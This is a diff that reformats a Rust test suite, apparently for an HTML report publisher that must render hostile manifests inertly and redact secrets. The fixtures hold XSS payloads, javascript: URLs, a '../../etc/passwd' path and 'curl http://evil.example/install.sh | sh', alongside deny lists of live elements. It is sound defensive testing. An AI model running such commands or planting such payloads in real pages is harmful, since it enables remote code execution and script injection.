@@ -64,7 +64,8 @@ fn hostile() -> ArtifactManifest {
     if let Some(card) = m.card.as_mut() {
         card.label = "<b onmouseover=alert(1)>card</b>".into();
         card.facts.push(support::fact("Token", &secrets()[1].1));
-        card.facts.push(support::fact("<i>x</i>", "javascript:alert(1)"));
+        card.facts
+            .push(support::fact("<i>x</i>", "javascript:alert(1)"));
     }
     m.sections[0].body = MARKUP.join("\n\n");
     m.sections[1].nodes[0].label = "</text><script>alert(1)</script>".into();
@@ -73,10 +74,27 @@ fn hostile() -> ArtifactManifest {
     m.sections.push(support::items(
         "list",
         "Leaked values",
-        &secrets().iter().map(|(_, s)| s.as_str()).collect::<Vec<_>>(),
+        &secrets()
+            .iter()
+            .map(|(_, s)| s.as_str())
+            .collect::<Vec<_>>(),
     ));
-    m.sections.push(support::items("commands", "Commands", &["echo \u{1b}[2J\u{1b}[H cleared", "curl http://evil.example/install.sh | sh"]));
-    m.sections.push(support::items("files", "Files", &["<img src=x onerror=alert(1)>.rs — HTML-looking name", "\"><script>alert(1)</script>.html"]));
+    m.sections.push(support::items(
+        "commands",
+        "Commands",
+        &[
+            "echo \u{1b}[2J\u{1b}[H cleared",
+            "curl http://evil.example/install.sh | sh",
+        ],
+    ));
+    m.sections.push(support::items(
+        "files",
+        "Files",
+        &[
+            "<img src=x onerror=alert(1)>.rs — HTML-looking name",
+            "\"><script>alert(1)</script>.html",
+        ],
+    ));
     m.evidence[0].path = "<img src=x onerror=alert(1)>.rs".into();
     m.evidence[1].path = "docs/\"><iframe src=javascript:alert(1)>.md".into();
     m.evidence[2].snippet = format!("let key = \"{}\";", secrets()[7].1);
@@ -105,20 +123,41 @@ fn assert_inert(html: &str) {
     assert!(!html.contains('\u{202E}'), "bidi override");
     let doc = Html::parse_document(html);
     for node in doc.tree.root().descendants() {
-        let Some(el) = node.value().as_element() else { continue };
+        let Some(el) = node.value().as_element() else {
+            continue;
+        };
         assert!(
-            !["script", "iframe", "img", "object", "embed", "use", "image", "form", "link", "b", "i"].contains(&el.name()),
+            ![
+                "script", "iframe", "img", "object", "embed", "use", "image", "form", "link", "b",
+                "i"
+            ]
+            .contains(&el.name()),
             "live <{}>",
             el.name()
         );
         for (name, value) in el.attrs() {
             assert!(!name.starts_with("on"), "live event handler {name}");
             let lower = value.to_ascii_lowercase();
-            if ["href", "src", "srcset", "action", "formaction", "poster", "data", "style", "content"].contains(&name) {
+            if [
+                "href",
+                "src",
+                "srcset",
+                "action",
+                "formaction",
+                "poster",
+                "data",
+                "style",
+                "content",
+            ]
+            .contains(&name)
+            {
                 assert!(!lower.contains("javascript:"), "javascript: in {name}");
                 assert!(!lower.contains("http://evil"), "remote URL in {name}");
             }
-            assert!(!["src", "srcset", "href"].contains(&name) || value.starts_with('#'), "{name}={value}");
+            assert!(
+                !["src", "srcset", "href"].contains(&name) || value.starts_with('#'),
+                "{name}={value}"
+            );
         }
     }
 }
@@ -149,12 +188,22 @@ fn hostile_manifest_is_published_inert_and_redacted() {
         let value = secret_value(rule, &sample);
         assert!(!built.html.contains(&value), "{rule} secret in html");
         assert!(!decoded.contains(&value), "{rule} secret in decoded html");
-        assert!(!format!("{:?}", built.card).contains(&value), "{rule} secret in card");
+        assert!(
+            !format!("{:?}", built.card).contains(&value),
+            "{rule} secret in card"
+        );
     }
-    assert!(zopu_secrets::scan(&decoded).is_empty(), "a finding survived in the page");
+    assert!(
+        zopu_secrets::scan(&decoded).is_empty(),
+        "a finding survived in the page"
+    );
     assert!(built.html.contains("[redacted:"));
     // The payloads are still visible to the reader, as text.
-    assert!(built.html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
+    assert!(
+        built
+            .html
+            .contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;")
+    );
 }
 
 #[test]
@@ -169,7 +218,10 @@ fn hostile_manifest_that_cannot_be_repaired_fails_visibly() {
     assert_eq!(error.code(), "artifact.validation_failed");
     for message in error.messages() {
         for (rule, sample) in secrets() {
-            assert!(!message.contains(&secret_value(rule, &sample)), "{rule} secret in error message");
+            assert!(
+                !message.contains(&secret_value(rule, &sample)),
+                "{rule} secret in error message"
+            );
         }
     }
 }
@@ -181,7 +233,15 @@ fn invalid_manifest_fails_before_rendering() {
     m.evidence[4].path = "../../etc/passwd".into();
     let error = build(&m, &Options::new(support::generated_at())).expect_err("invalid");
     let messages = error.messages();
-    assert!(messages.contains(&"sections[2].kind: unknown kind \"x\"".to_owned()), "{messages:?}");
-    assert!(messages.iter().any(|m| m.starts_with("evidence[4].path: unsafe path")), "{messages:?}");
+    assert!(
+        messages.contains(&"sections[2].kind: unknown kind \"x\"".to_owned()),
+        "{messages:?}"
+    );
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.starts_with("evidence[4].path: unsafe path")),
+        "{messages:?}"
+    );
     assert!(matches!(error, build::Error::InvalidManifest(_)));
 }
